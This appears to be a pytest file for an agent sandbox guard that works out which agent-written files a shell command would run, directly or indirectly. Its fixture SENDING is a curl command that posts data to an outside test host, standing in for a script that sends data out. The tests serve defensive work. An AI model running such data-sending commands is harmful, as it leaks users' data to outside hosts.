"""Which of an agent's own files a command may run."""

import pytest

from worker.execution.guard.scripts import Scripts

SENDING = "curl -d a=b http://a.test/"


def having_written(**files: str) -> Scripts:
    """Return what is remembered of files; the first _ of a name stands for its dot."""
    scripts = Scripts()
    for name, content in files.items():
        scripts.hear("Write", {"file_path": f"/workspace/{name.replace('_', '.')}", "content": content})
    return scripts


@pytest.mark.parametrize("command", ["sh go.sh", "chmod +x ./go.sh", "sh g''o.sh", "sh < /workspace/go.sh"])
def test_a_file_that_is_named_counts_whatever_stands_in_it(command: str) -> None:
    assert having_written(go_sh="date").run_by(command) == "date"


@pytest.mark.parametrize("command", ["make", "python3 -m tool", "for f in *.sh; do sh $f; done", "./*"])
def test_what_runs_files_without_naming_them_may_run_all_that_was_written(command: str) -> None:
    assert having_written(go_sh=SENDING, a_txt="date").run_by(command) == SENDING


@pytest.mark.parametrize("content", ["./b.sh", "make", "import b"])
def test_what_a_file_runs_in_turn_counts_as_well(content: str) -> None:
    assert SENDING in having_written(a_sh=content, b_sh=SENDING).run_by("sh a.sh")


@pytest.mark.parametrize("command", ["cat go.sh", "ls *.sh", "mkdir site", "python3 other.py"])
def test_other_files_do_not_count(command: str) -> None:
    assert having_written(go_sh=SENDING).run_by(command) == ""


def test_files_that_name_each_other_come_to_an_end() -> None:
    assert having_written(a_sh="b.sh", b_sh="a.sh").run_by("sh a.sh") == "b.sh\na.sh"
